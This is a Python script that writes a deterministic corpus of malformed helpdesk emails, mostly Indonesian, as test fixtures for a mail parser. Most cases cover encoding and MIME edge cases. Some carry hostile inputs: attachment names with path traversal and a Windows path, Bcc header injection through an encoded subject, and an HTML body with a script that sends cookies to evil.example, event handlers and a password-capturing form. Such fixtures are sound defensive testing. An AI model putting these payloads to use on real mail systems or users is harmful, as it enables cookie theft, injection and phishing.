"""Regenerate the odd-mail corpus in this directory: `python tests/data/odd/make_corpus.py`.

Deterministic: no clock, no randomness. Every file is written byte for byte from the literals
below, with CRLF line endings unless a case says otherwise. Only the standard library is used.
What each file exercises is described in README.md next to this script.
"""
from __future__ import annotations

import base64
import pathlib

HERE = pathlib.Path(__file__).resolve().parent
DESK = "servicedesk@posbalikpapan.example"
CASES: dict[str, bytes] = {}


def crlf(text: str, encoding: str = "utf-8") -> bytes:
    """LF-written literal -> CRLF bytes in `encoding`."""
    return text.replace("\r\n", "\n").replace("\n", "\r\n").encode(encoding)


def b64lines(data: bytes) -> str:
    enc = base64.b64encode(data).decode("ascii")
    return "\n".join(enc[i:i + 76] for i in range(0, len(enc), 76))


def case(name: str):
    def register(fn):
        CASES[name] = fn()
        return fn
    return register


def received(day: int, time: str, helo: str = "pc.posbalikpapan.example") -> str:
    return (f"Received: from {helo} (10.20.2.50) by mx.posbalikpapan.example (Postfix)\n"
            f"\twith ESMTPSA id 3A{day:02d}B{time.replace(':', '')}; "
            f"{day_name(day)}, {day} Nov 2026 {time} +0800 (WITA)\n")


def day_name(day: int) -> str:
    # 1 November 2026 is a Sunday
    return ("Sun", "Mon", "Tue", "Wed", "Thu", "Fri", "Sat")[(day - 1) % 7]


def date(day: int, time: str) -> str:
    return f"Date: {day_name(day)}, {day} Nov 2026 {time} +0800\n"


# --------------------------------------------------------------------------------------------

@case("01-missing-from.eml")
def _():
    return crlf(received(2, "10:02:11", "loket5") + date(2, "10:02:09") + f"""\
To: {DESK}
Subject: Ipos loket 5 tidak bisa login
Message-ID: <odd-01.20261102100209@posbalikpapan.example>
MIME-Version: 1.0
Content-Type: text/plain; charset=us-ascii
Content-Transfer-Encoding: 7bit

Ipos di loket 5 tidak bisa login sejak jam 10, muncul "user session expired".
Mohon dicek. (dikirim dari skrip notifikasi loket, tanpa alamat pengirim)
""")


@case("02-from-display-name-only.eml")
def _():
    return crlf(received(2, "11:15:40") + date(2, "11:15:38") + f"""\
From: "Budi Santoso - Loket 2"
To: {DESK}
Subject: Printer resi loket 2 error
Message-ID: <odd-02.20261102111538@posbalikpapan.example>
MIME-Version: 1.0
Content-Type: text/plain; charset=us-ascii
Content-Transfer-Encoding: 7bit

Printer resi di loket 2 error terus, kertas macet dan Ipos menampilkan
"printer offline". Terima kasih.

Budi
""")


@case("03-broken-mime-boundary.eml")
def _():
    # The declared boundary ends in ...000, the parts use ...001, and there is no closing line.
    att0 = b64lines(b"jam 08.10 posting jurnal 5 menit\r\njam 08.25 timeout\r\n")
    return crlf(received(3, "08:40:02") + date(3, "08:40:00") + f"""\
From: Siti Rahmawati <siti.rahmawati@posbalikpapan.example>
To: {DESK}
Subject: Server SIK lambat sekali
Message-ID: <odd-03.20261103084000@posbalikpapan.example>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="----=_Part_48213_1873650214.1762130400000"

------=_Part_48213_1873650214.1762130400001
Content-Type: text/plain; charset=UTF-8
Content-Transfer-Encoding: 7bit

Server SIK lambat sekali sejak pagi, posting jurnal butuh 5 menit.

------=_Part_48213_1873650214.1762130400001
Content-Type: text/plain; name=catatan.txt
Content-Transfer-Encoding: base64
Content-Disposition: attachment; filename=catatan.txt

{att0}
""")


@case("04-bad-base64-part.eml")
def _():
    # Text part: characters outside the alphabet and the "==" padding lost; a lenient decoder
    # still recovers the text. Attachment: cut off mid-quantum (4n+1 characters), which no
    # decoder can read.
    text = base64.b64encode(
        "Aplikasi PosPay di loket 4 error saat cetak bukti bayar, muncul kode E-204.\r\n"
        "Mohon bantuannya Pak.\r\n".encode("utf-8")).decode("ascii")
    assert text.endswith("==")
    text = text.rstrip("=")
    text = text[:40] + "!!*" + text[40:76] + "\n" + text[76:100] + "%%" + text[100:]
    att = base64.b64encode(b"E-204 printer timeout, spool PRN-07 penuh\r\n").decode("ascii")
    att = att[:4 * (len(att) // 4 - 2) + 1]
    return crlf(received(3, "09:12:45") + date(3, "09:12:43") + f"""\
From: Yuliana Putri <yuliana.putri@posbalikpapan.example>
To: {DESK}
Subject: PosPay error E-204 di loket 4
Message-ID: <odd-04.20261103091243@posbalikpapan.example>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="b4-4c1d2e"

--b4-4c1d2e
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: base64

{text}
--b4-4c1d2e
Content-Type: text/plain; name="kode-error.txt"
Content-Disposition: attachment; filename="kode-error.txt"
Content-Transfer-Encoding: base64

{att}
--b4-4c1d2e--
""")


@case("05-unknown-charset.eml")
def _():
    return crlf(received(4, "07:55:20") + date(4, "07:55:18") + f"""\
From: Hari Susanto <hari.susanto@posbalikpapan.example>
To: {DESK}
Subject: Komputer gudang gagal booting
Message-ID: <odd-05.20261104075518@posbalikpapan.example>
MIME-Version: 1.0
Content-Type: text/plain; charset="x-unknown"
Content-Transfer-Encoding: 8bit

Komputer di gudang antaran gagal booting – layar biru “INACCESSIBLE_BOOT_DEVICE”.
Sudah dicoba restart 3× tetap sama.
""")  # body is really UTF-8; the label is not a charset any codec registry knows


@case("06-iso-8859-1-body.eml")
def _():
    return crlf(received(4, "14:20:07") + date(4, "14:20:05") + f"""\
From: Andre Kusuma <andre.kusuma@posbalikpapan.example>
To: {DESK}
Subject: AC ruang server mati, suhu naik
Message-ID: <odd-06.20261104142005@posbalikpapan.example>
MIME-Version: 1.0
Content-Type: text/plain; charset="iso-8859-1"
Content-Transfer-Encoding: 8bit
X-Mailer: Microsoft Outlook Express 6.00.2900.5512

AC di ruang server mati sejak siang, suhu sekarang ±35°C.
Pak André dari vendor AC baru bisa datang besok; server Ipos mulai lambat.
Mohon izin membuka pintu ruang server sementara.

André Kusuma · Bagian Dukungan Umum
""", "iso-8859-1")


@case("07-windows-1252-smart-quotes.eml")
def _():
    return crlf(received(5, "10:31:33") + date(5, "10:31:30") + f"""\
From: Lina Marpaung <lina.marpaung@posbalikpapan.example>
To: {DESK}
Subject: Wahana tidak bisa dibuka
Message-ID: <odd-07.20261105103130@posbalikpapan.example>
MIME-Version: 1.0
Content-Type: text/plain; charset="Windows-1252"
Content-Transfer-Encoding: 8bit
X-Mailer: Microsoft Outlook 16.0

Selamat pagi,

Saat membuka Wahana muncul pesan “Your connection isn’t private” – lalu halaman kosong…
Rekan di bagian lain bilang ‘sama saja’. Mohon dicek — terima kasih.

Lina
""", "cp1252")


@case("08-iso-2022-jp.eml")
def _():
    subject = "【至急】Iposに出荷データを登録できません"
    name = "田中 浩"
    body = ("サービスデスク御中\n\n"
            "本日9時ごろから、Iposに弊社の出荷データを登録できません。\n"
            "エラー: サーバーに接続できません (timeout)\n\n"
            "Since 09:00 we cannot register our shipment data in Ipos (server timeout).\n\n"
            "田中 浩\n株式会社サンプル物流 バリクパパン事務所\n")

    def word(text: str) -> str:
        return "=?ISO-2022-JP?B?" + base64.b64encode(text.encode("iso-2022-jp")).decode() + "?="

    head = crlf(received(5, "13:05:51", "mail.vendor.example") + date(5, "13:05:49") + f"""\
From: {word(name)} <h.tanaka@vendor.example>
To: {DESK}
Subject: {word(subject)}
Message-ID: <odd-08.20261105130549@vendor.example>
MIME-Version: 1.0
Content-Type: text/plain; charset=ISO-2022-JP
Content-Transfer-Encoding: 7bit

""")
    return head + body.replace("\n", "\r\n").encode("iso-2022-jp")


@case("09-rfc2231-filename.eml")
def _():
    att1 = b64lines("suhu ±35°C pukul 14.00\r\n".encode("iso-8859-1"))
    att0 = b64lines("Loket 3 – kabel LAN rusak, PosPay RTO.\r\n".encode("utf-8"))
    return crlf(received(6, "08:20:14") + date(6, "08:20:12") + f"""\
From: Rina Marlina <rina.marlina@posbalikpapan.example>
To: {DESK}
Subject: Laporan gangguan loket 3 (lampiran)
Message-ID: <odd-09.20261106082012@posbalikpapan.example>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="b9-rfc2231"

--b9-rfc2231
Content-Type: text/plain; charset=us-ascii

Terlampir laporan gangguan loket 3 dan catatan suhu ruang server.

--b9-rfc2231
Content-Type: text/plain; charset=UTF-8;
 name*=UTF-8''laporan%20gangguan%20%E2%80%93%20loket%203.txt
Content-Disposition: attachment;
 filename*0*=UTF-8''laporan%20gangguan%20%E2%80%93%20;
 filename*1*=loket%203.txt
Content-Transfer-Encoding: base64

{att0}
--b9-rfc2231
Content-Type: text/plain; charset=iso-8859-1
Content-Disposition: attachment;
 filename*=iso-8859-1'id'suhu%20ruang%20server%20%B135%B0C.txt
Content-Transfer-Encoding: base64

{att1}
--b9-rfc2231--
""")


@case("10-attachment-path-traversal.eml")
def _():
    att0 = b64lines(b"root:x:0:0:incidentdesk test fixture:/nonexistent:/usr/sbin/nologin\n")
    return crlf(received(6, "15:44:09") + date(6, "15:44:07") + f"""\
From: Joko Prasetyo <joko.prasetyo@mail.example>
To: {DESK}
Subject: Log error Ipos
Message-ID: <odd-10.20261106154407@mail.example>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="b10-trav"

--b10-trav
Content-Type: text/plain; charset=us-ascii

Terlampir log error Ipos.

--b10-trav
Content-Type: text/plain; name="../../etc/passwd"
Content-Disposition: attachment; filename="../../etc/passwd"
Content-Transfer-Encoding: base64

{att0}
--b10-trav--
""")


@case("11-attachment-windows-path.eml")
def _():
    # quoted-string with escaped backslashes: the parameter value is C:\Windows\evil.bat
    att0 = b64lines(b"@echo off\r\nREM incidentdesk test fixture - harmless\r\necho never run attachments\r\n")
    return crlf(received(9, "09:03:26") + date(9, "09:03:24") + f"""\
From: Joko Prasetyo <joko.prasetyo@mail.example>
To: {DESK}
Subject: Skrip perbaikan jaringan
Message-ID: <odd-11.20261109090324@mail.example>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="b11-win"

--b11-win
Content-Type: text/plain; charset=us-ascii

Pak, ini skrip perbaikan jaringan dari vendor, tolong dijalankan di PC loket.

--b11-win
Content-Type: application/octet-stream; name="C:\\\\Windows\\\\evil.bat"
Content-Disposition: attachment; filename="C:\\\\Windows\\\\evil.bat"
Content-Transfer-Encoding: base64

{att0}
--b11-win--
""")


@case("12-nul-bytes-body.eml")
def _():
    return crlf(received(9, "11:47:58") + date(9, "11:47:56") + f"""\
From: Dodi Firmansyah <dodi.firmansyah@posbalikpapan.example>
To: {DESK}
Subject: Ipos error saat cetak resi
Message-ID: <odd-12.20261109114756@posbalikpapan.example>
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: 8bit

Ipos error saat cetak resi, isi log yang saya salin:
ERR\x00\x00\x00 PRN-07 spool\x00failed
Mohon\x00 dicek.
""")


@case("13-long-header-line.eml")
def _():
    prefix = "Subject: Ipos error: "
    chunk = "java.net.SocketTimeoutException: Read timed out at ipos.client.Sync.push(Sync.java:214); "
    line = (prefix + chunk * (10_000 // len(chunk) + 1))[:10_000]
    assert len(line) == 10_000
    return crlf(received(10, "08:05:12") + date(10, "08:05:10") + f"""\
From: Wawan Hidayat <wawan.hidayat@posbalikpapan.example>
To: {DESK}
{line}
Message-ID: <odd-13.20261110080510@posbalikpapan.example>
MIME-Version: 1.0
Content-Type: text/plain; charset=us-ascii
Content-Transfer-Encoding: 7bit

Pesan error lengkap ada di subjek, maaf kepanjangan.
""")


@case("14-header-injection-subject.eml")
def _():
    injected = "Printer loket rusak\r\nBcc: everyone@evil.example\r\n\r\nspam body"
    word = "=?UTF-8?B?" + base64.b64encode(injected.encode()).decode() + "?="
    word_q = "=?UTF-8?Q?_lagi=0D=0ABcc:_more@evil.example?="
    return crlf(received(10, "16:30:45", "unknown") + date(10, "16:30:43") + f"""\
From: Pelapor <pelapor@mail.example>
To: {DESK}
Subject: {word}
 {word_q}
Message-ID: <odd-14.20261110163043@mail.example>
MIME-Version: 1.0
Content-Type: text/plain; charset=us-ascii
Content-Transfer-Encoding: 7bit

Printer loket rusak.
""")


@case("15-html-script-onclick.eml")
def _():
    return crlf(received(11, "09:22:35") + date(11, "09:22:33") + f"""\
From: Nina Sari <nina.sari@posbalikpapan.example>
To: {DESK}
Subject: Wahana tidak bisa dibuka (screenshot di bawah)
Message-ID: <odd-15.20261111092233@posbalikpapan.example>
MIME-Version: 1.0
Content-Type: text/html; charset=utf-8
Content-Transfer-Encoding: 7bit

<html><head>
<script type="text/javascript">fetch("https://evil.example/steal?c=" + document.cookie);</script>
<style>body {{ background: url("javascript:alert(1)") }}</style>
</head>
<body onload="alert('onload')">
<p>Wahana tidak bisa dibuka sejak pagi, muncul error 503.</p>
<p><a href="javascript:alert('x')" onclick="document.location='https://evil.example/'">Klik di sini untuk detail</a></p>
<img src="x" onerror="alert('img')" alt="screenshot">
<iframe src="https://evil.example/frame"></iframe>
<form action="https://evil.example/login"><input name="password"></form>
<p>Terima kasih, Nina</p>
</body></html>
""")


@case("16-auto-submitted-auto-replied.eml")
def _():
    return crlf(received(2, "08:18:30", "mx.posbalikpapan.example") + date(2, "08:18:29") + f"""\
From: Hendra Wijaya - Kepala Kantor <kepala.kantor@posbalikpapan.example>
To: Service Desk SOLTEK <{DESK}>
Subject: Balasan otomatis: [INC-000001] Laporan diterima: Ipos server down - semua loket tidak bisa input kiriman
Message-ID: <odd-16.20261102081829@posbalikpapan.example>
In-Reply-To: <ack-1@desk.example>
References: <ack-1@desk.example>
Auto-Submitted: auto-replied
MIME-Version: 1.0
Content-Type: text/plain; charset=us-ascii
Content-Transfer-Encoding: 7bit

Terima kasih atas e-mail Anda. Saya sedang rapat di Kantor Regional sampai
pukul 12.00 WITA dan akan membalas setelahnya.

Hendra Wijaya
""")


@case("17-out-of-office-x-autoreply.eml")
def _():
    return crlf(received(3, "07:43:02", "mail.posbalikpapan.example") + date(3, "07:43:01") + f"""\
From: Sri Wahyuni <kabid.keuangan@posbalikpapan.example>
To: {DESK}
Subject: Di luar kantor: [INC-000002] Laporan diterima: Komputer SIK di Bagian Akuntansi terkena virus
Message-ID: <odd-17.20261103074301@posbalikpapan.example>
In-Reply-To: <ack-2@desk.example>
X-Autoreply: yes
X-Mailer: Zimbra 9.0.0_GA_4546
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: 7bit

Saya sedang cuti sampai 9 November 2026. Untuk urusan mendesak silakan
hubungi staf Bagian Akuntansi.

I am on leave until 9 November 2026.
""")


@case("18-newsletter-bulk-list-id.eml")
def _():
    return crlf(received(12, "06:00:04", "bulk.vendor.example") + date(12, "06:00:01") + f"""\
From: "Info Produk Vendor" <news@vendor.example>
To: {DESK}
Subject: Promo November: antivirus untuk server dan komputer kantor Anda
Message-ID: <news-2026-11.4821@vendor.example>
Precedence: bulk
List-Id: Info Produk Vendor <info.vendor.example>
List-Unsubscribe: <mailto:unsubscribe@vendor.example?subject=unsubscribe>, <https://vendor.example/unsub?u=4821>
List-Unsubscribe-Post: List-Unsubscribe=One-Click
MIME-Version: 1.0
Content-Type: multipart/alternative; boundary="b18-news"

--b18-news
Content-Type: text/plain; charset=utf-8

Server down karena virus? Komputer lambat? Internet mati?
Diskon 30% lisensi antivirus untuk semua komputer kantor sampai 30 November 2026.

Berhenti berlangganan: https://vendor.example/unsub?u=4821
--b18-news
Content-Type: text/html; charset=utf-8

<p><b>Server down karena virus?</b> Komputer lambat? Internet mati?</p>
<p>Diskon 30% lisensi antivirus untuk semua komputer kantor sampai 30 November 2026.</p>
<p><a href="https://vendor.example/unsub?u=4821">Berhenti berlangganan</a></p>
--b18-news--
""")


@case("19-dsn-bounce-5-1-1.eml")
def _():
    b = "8F2C3A1B4D.1762910112/mx.posbalikpapan.example"
    return crlf(f"""\
Return-Path: <>
Received: by mx.posbalikpapan.example (Postfix)
	id 8F2C3A1B4D; Thu, 12 Nov 2026 09:15:12 +0800 (WITA)
Date: Thu, 12 Nov 2026 09:15:12 +0800 (WITA)
From: MAILER-DAEMON@mx.posbalikpapan.example (Mail Delivery System)
Subject: Undelivered Mail Returned to Sender
To: {DESK}
Auto-Submitted: auto-replied
MIME-Version: 1.0
Content-Type: multipart/report; report-type=delivery-status;
	boundary="{b}"
Content-Transfer-Encoding: 7bit
Message-Id: <20261112011512.8F2C3A1B4D@mx.posbalikpapan.example>

This is a MIME-encapsulated message.

--{b}
Content-Description: Notification
Content-Type: text/plain; charset=us-ascii

This is the mail system at host mx.posbalikpapan.example.

I'm sorry to have to inform you that your message could not
be delivered to one or more recipients. It's attached below.

For further assistance, please send mail to postmaster.

If you do so, please include this problem report. You can
delete your own text from the attached returned message.

                   The mail system

<pelapor.tidakada@posbalikpapan.example>: host
    mail.posbalikpapan.example[10.20.0.26] said: 550 5.1.1
    <pelapor.tidakada@posbalikpapan.example>: Recipient address rejected: User
    unknown in local recipient table (in reply to RCPT TO command)

--{b}
Content-Description: Delivery report
Content-Type: message/delivery-status

Reporting-MTA: dns; mx.posbalikpapan.example
X-Postfix-Queue-ID: 8F2C3A1B4D
X-Postfix-Sender: rfc822; {DESK}
Arrival-Date: Thu, 12 Nov 2026 09:15:10 +0800 (WITA)

Final-Recipient: rfc822; pelapor.tidakada@posbalikpapan.example
Original-Recipient: rfc822;pelapor.tidakada@posbalikpapan.example
Action: failed
Status: 5.1.1
Remote-MTA: dns; mail.posbalikpapan.example
Diagnostic-Code: smtp; 550 5.1.1 <pelapor.tidakada@posbalikpapan.example>:
    Recipient address rejected: User unknown in local recipient table

--{b}
Content-Description: Undelivered Message Headers
Content-Type: text/rfc822-headers
Content-Transfer-Encoding: 7bit

Return-Path: <{DESK}>
Received: from desk.posbalikpapan.example (desk.posbalikpapan.example [10.20.0.30])
	by mx.posbalikpapan.example (Postfix) with ESMTPS id 8F2C3A1B4D
	for <pelapor.tidakada@posbalikpapan.example>; Thu, 12 Nov 2026 09:15:10 +0800 (WITA)
From: Service Desk SOLTEK <{DESK}>
To: pelapor.tidakada@posbalikpapan.example
Reply-To: {DESK}
Subject: [INC-000001] Laporan diterima: Ipos server down
Date: Thu, 12 Nov 2026 09:15:09 +0800
Message-ID: <ack-1@desk.example>
Auto-Submitted: auto-replied
X-Auto-Response-Suppress: All
X-Incidentdesk: 1
MIME-Version: 1.0
Content-Type: multipart/alternative; boundary="===============0123456789=="

--{b}--
""")


@case("20-empty-return-path.eml")
def _():
    return crlf("Return-Path: <>\n" + received(12, "02:14:07", "monitoring.posbalikpapan.example")
                + date(12, "02:14:05") + f"""\
From: Zabbix <zabbix@monitoring.posbalikpapan.example>
To: {DESK}
Subject: PROBLEM: Server SIK unreachable for 5 minutes
Message-ID: <odd-20.20261112021405@monitoring.posbalikpapan.example>
MIME-Version: 1.0
Content-Type: text/plain; charset=UTF-8
Content-Transfer-Encoding: 7bit

Problem started at 02:09:05 on 2026.11.12
Problem name: Server SIK unreachable for 5 minutes
Host: sik-app-01
Severity: High
Operational data: Down (0)
""")


@case("21-no-body.eml")
def _():
    # header block only: no empty line, nothing after the last header
    return crlf(received(13, "10:10:10") + date(13, "10:10:08") + f"""\
From: Rudi Hartono <rudi.hartono@posbalikpapan.example>
To: {DESK}
Subject: Wahana tidak bisa dibuka
Message-ID: <odd-21.20261113101008@posbalikpapan.example>
MIME-Version: 1.0
Content-Type: text/plain; charset=us-ascii
""")


@case("22-undeclared-8bit.eml")
def _():
    # no MIME-Version, Content-Type or Content-Transfer-Encoding, but UTF-8 bytes in the body
    return crlf(received(13, "13:31:19") + date(13, "13:31:17") + f"""\
From: Eko Saputro <eko.saputro@posbalikpapan.example>
To: {DESK}
Subject: Kabel jaringan loket 1 putus
Message-ID: <odd-22.20261113133117@posbalikpapan.example>

Kabel jaringan di loket 1 putus – kena kursi. Ipos “offline”, loket 1 tutup sementara.
Mohon dikirim teknisi. Terima kasih…
""")


@case("23-duplicate-message-id.eml")
def _():
    return crlf(received(16, "08:45:33") + date(16, "08:45:31") + f"""\
Message-ID: <odd-23-first@posbalikpapan.example>
From: Maya Anggraini <maya.anggraini@posbalikpapan.example>
To: {DESK}
Subject: PGM tidak bisa login
Message-ID: <odd-23-second@mail.example>
MIME-Version: 1.0
Content-Type: text/plain; charset=us-ascii
Content-Transfer-Encoding: 7bit

Nasabah di loket 6 melapor Pos Giro Mobile tidak bisa login sejak pagi.
""")


@case("24-outlook-agent-reply-status-proses.eml")
def _():
    b = "_000_SG2PR06MB5310E7A1C4B2D9F0A6E3C8B5D1A24posbalikpapanex_"
    text = f"""\
Status: proses

Sudah dicek, service Ipos di server aplikasi berhenti setelah update semalam. Sedang kami
restart dan pantau. Estimasi normal 30 menit.

Salam,
Andi Saputra
Service Desk SOLTEK

________________________________
Dari: Service Desk SOLTEK <{DESK}>
Dikirim: Senin, 02 November 2026 08.18
Kepada: Hendra Wijaya - Kepala Kantor <kepala.kantor@posbalikpapan.example>
Cc: Andi Saputra <andi.saputra@posbalikpapan.example>
Subjek: [INC-000001] Laporan diterima: Ipos server down - semua loket tidak bisa input kiriman

Yth. Hendra Wijaya - Kepala Kantor,

Laporan insiden Anda telah kami terima dan dicatat dengan nomor tiket INC-000001.

Nomor tiket : INC-000001
Status      : Baru
Prioritas   : P1 (Critical)
"""
    html = f"""\
<html xmlns:o="urn:schemas-microsoft-com:office:office">
<head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body lang="id-ID">
<div class="WordSection1">
<p class="MsoNormal">Status: proses<o:p></o:p></p>
<p class="MsoNormal"><o:p>&nbsp;</o:p></p>
<p class="MsoNormal">Sudah dicek, service Ipos di server aplikasi berhenti setelah update semalam. Sedang kami restart dan pantau. Estimasi normal 30 menit.<o:p></o:p></p>
<p class="MsoNormal"><o:p>&nbsp;</o:p></p>
<p class="MsoNormal">Salam,<br>Andi Saputra<br>Service Desk SOLTEK<o:p></o:p></p>
<div id="appendonsend"></div>
<hr style="display:inline-block;width:98%" tabindex="-1">
<div id="divRplyFwdMsg" dir="ltr"><font face="Calibri, sans-serif" style="font-size:11pt" color="#000000"><b>Dari:</b> Service Desk SOLTEK &lt;{DESK}&gt;<br>
<b>Dikirim:</b> Senin, 02 November 2026 08.18<br>
<b>Kepada:</b> Hendra Wijaya - Kepala Kantor &lt;kepala.kantor@posbalikpapan.example&gt;<br>
<b>Cc:</b> Andi Saputra &lt;andi.saputra@posbalikpapan.example&gt;<br>
<b>Subjek:</b> [INC-000001] Laporan diterima: Ipos server down - semua loket tidak bisa input kiriman</font>
<div>&nbsp;</div></div>
<div><p>Yth. Hendra Wijaya - Kepala Kantor,</p>
<p>Laporan insiden Anda telah kami terima dan dicatat dengan nomor tiket INC-000001.</p></div>
</div>
</body></html>
"""
    return crlf(received(2, "08:31:07", "PBP-EXCH01.posbalikpapan.example") + f"""\
From: Andi Saputra <andi.saputra@posbalikpapan.example>
To: Service Desk SOLTEK <{DESK}>
Subject: RE: [INC-000001] Laporan diterima: Ipos server down - semua loket tidak bisa
 input kiriman
Thread-Topic: [INC-000001] Laporan diterima: Ipos server down - semua loket tidak bisa
 input kiriman
Thread-Index: AQHbLJ0xk7y2QmV8T0yW7pR3fN2kTqEwz8Yx
""" + date(2, "08:31:05") + f"""\
Message-ID: <SG2PR06MB5310E7A1C4B2D9F0A6E3C8B5D1A24@posbalikpapan.example>
References: <8d1f3c52-7a4e-4b1e-9c2d-01a5e0b7f611@posbalikpapan.example>
 <ack-1@desk.example>
In-Reply-To: <ack-1@desk.example>
Accept-Language: id-ID, en-US
Content-Language: id-ID
X-MS-Has-Attach:
X-MS-TNEF-Correlator:
MIME-Version: 1.0
Content-Type: multipart/alternative; boundary="{b}"

--{b}
Content-Type: text/plain; charset="utf-8"
Content-Transfer-Encoding: 8bit

{text}
--{b}
Content-Type: text/html; charset="utf-8"
Content-Transfer-Encoding: 8bit

{html}
--{b}--
""")


@case("25-raw-utf8-headers.eml")
def _():
    # RFC 6532 style: UTF-8 straight in From and Subject, no encoded words
    return crlf(received(17, "10:26:44", "hp-kurir") + date(17, "10:26:42") + f"""\
From: Dewi Lestari – Antaran <dewi.lestari@posbalikpapan.example>
To: {DESK}
Subject: E-Pod gagal sinkron – data ± 40 kiriman tertahan
Message-ID: <odd-25.20261117102642@posbalikpapan.example>
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: 8bit

E-Pod di HP kurir gagal sinkron lagi, data bukti antar ± 40 kiriman tertahan.
""")


def main() -> None:
    for name, data in CASES.items():
        (HERE / name).write_bytes(data)
    print(f"wrote {len(CASES)} files to {HERE}")


if __name__ == "__main__":
    main()
